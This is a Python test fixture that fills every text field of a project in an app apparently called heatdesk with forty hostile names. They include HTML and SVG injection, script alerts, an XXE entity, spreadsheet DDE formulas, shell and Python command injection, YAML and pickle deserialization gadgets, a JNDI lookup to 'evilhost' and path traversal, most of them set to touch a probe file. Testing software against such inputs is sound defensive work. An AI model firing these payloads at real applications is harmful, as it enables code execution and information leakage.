"""Forty names that would rather be something else, and projects that have them in every text field.

Most of them try to have a file opened: `probe` is the beginning of its path. Whoever takes one of
them for more than text touches that path, and is found out.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

from heatdesk.model.findings import Finding, NamedItem
from heatdesk.model.items import LAYERS, Item, Placement
from heatdesk.model.project import Project
from heatdesk.model.properties import (
    Axes,
    Axis,
    LayerName,
    LayerNames,
    Properties,
    Quadrant,
    Quadrants,
)
from heatdesk.model.scenario import Scenario
from heatdesk.model.story import About, Step

NAMES = (
    '<img src="{probe}/1.png">',
    "<img src='file://{probe}/2.png'>",
    "<b>bold<i>",
    "&lt;img src={probe}/3.png&gt;",
    '<table background="{probe}/4.png"><tr><td>x</table>',
    '<p style="background-image:url({probe}/5.png)">x',
    "<link rel=stylesheet href='{probe}/6.css'>",
    "<style>@import url({probe}/7.css);</style>",
    '<object data="{probe}/8.svg"></object>',
    '<iframe src="file://{probe}/9.html">',
    '<svg><image xlink:href="{probe}/10.png"/></svg>',
    "<script>alert(1)</script>",
    '" onload="alert(1)" x="',
    "<qt><img src={probe}/11.png></qt>",
    "![picture]({probe}/12.png)",
    "[a link](file://{probe}/13)",
    "<file://{probe}/14>",
    "file://{probe}/15.png",
    "{probe}/16.png",
    "file:////evilhost/share/{token}.png",
    "\\\\evilhost\\share\\{token}.png",
    "//evilhost/share/{token}.png",
    "javascript:alert(1)",
    "data:text/html,<img src={probe}/17.png>",
    '<?xml-stylesheet href="{probe}/18.xsl"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file://{probe}/19">]>&e;',
    "]]><!--\"'>",
    '=HYPERLINK("file://{probe}/20";"x")',
    "=cmd|' /C touch {probe}/21'!A0",
    "@SUM(1+1)*cmd|'x'!A0",
    "$(touch {probe}/22)",
    "`touch {probe}/23`; touch {probe}/24 | sh",
    "__import__('os').system('touch {probe}/25')",
    "!!python/object/apply:os.system ['touch {probe}/26']",
    "cposix\\nsystem\\n(S'touch {probe}/27'\\ntR.",
    "%s%n {{0.__class__}} ${{jndi:ldap://evilhost/{token}}}",
    "../../../../../..{probe}/28",
    "a\u202egnp.92/{token}\u202c\u2066\u200b\ufeff",
    "[*] & && &File <<>> %1",
    "W" * 200,
)


def names(probe: str) -> list[str]:
    """The names, with the probe's path in them."""
    token = probe.rpartition("/")[2]
    return [name.format(probe=probe, token=token)[:200] for name in NAMES]


def a_hostile_project(probe: str, turn: int = 0) -> Project:
    """A project with 40 items. In 40 turns every name stands in every field that holds text; what
    may be long holds them all at once where it is shown by itself.
    """
    dealt, whole = _dealt(names(probe), turn), "\n\n".join(names(probe))
    items = [_item(n, dealt) for n in range(len(NAMES))]
    scenarios = [(_scenario(id, dealt), _placed(items, dealt)) for id in ("now", "later")]
    properties = Properties(
        next(dealt),
        whole,
        Axes(*[_axis(dealt) for _ in "xy"]),
        Quadrants(*[Quadrant(next(dealt), next(dealt)) for _ in range(4)]),
        LayerNames(LayerName(next(dealt)), LayerName(next(dealt))),
        "later",
    )
    findings = [_finding(n, dealt) for n in range(3)]
    findings.append(replace(findings[0], id="long", sentence=whole, result=whole))
    kinds = (
        "title",
        "axes",
        "technologies",
        "roles",
        "overlay",
        "warm",
        "hot",
        "opportunity",
        "free",
    )
    steps = [_step(f"step-{n}", kind, dealt) for n, kind in enumerate(kinds)]
    steps[0] = replace(steps[0], caption=whole, notes=whole)
    return Project.of(properties, items, scenarios, findings, tuple(steps))


def _dealt(names: list[str], turn: int) -> Iterator[str]:
    while True:
        for n in range(len(names)):
            yield names[(n + turn) % len(names)]


def _item(n: int, dealt: Iterator[str]) -> Item:
    name, group, note, link = (next(dealt) for _ in range(4))
    return Item(f"item-{n}", LAYERS[n % 2], name, group, note, link)


def _scenario(id: str, dealt: Iterator[str]) -> Scenario:
    return Scenario(id, next(dealt), None, next(dealt))


def _placed(items: list[Item], dealt: Iterator[str]) -> list[Placement]:
    spots = [((n % 8) / 4 - 0.9, (n // 8) / 2.5 - 0.8) for n in range(len(items))]
    return [
        Placement(item.id, x, y, reason=next(dealt))
        for item, (x, y) in zip(items, spots, strict=True)
    ]


def _axis(dealt: Iterator[str]) -> Axis:
    return Axis(*[next(dealt) for _ in range(4)])


def _finding(n: int, dealt: Iterator[str]) -> Finding:
    named = (NamedItem("item-0", next(dealt)), NamedItem("gone", next(dealt)))
    zone = ("hot", "warm", None)[n]
    texts = [next(dealt) for _ in range(5)]
    return Finding(f"finding-{n}", "now", zone, None, None, named, *texts)  # type: ignore[arg-type]


def _step(id: str, kind: str, dealt: Iterator[str]) -> Step:
    texts = [next(dealt) for _ in range(3)]
    return Step(id, kind, About(scenario="now"), *texts)  # type: ignore[arg-type]
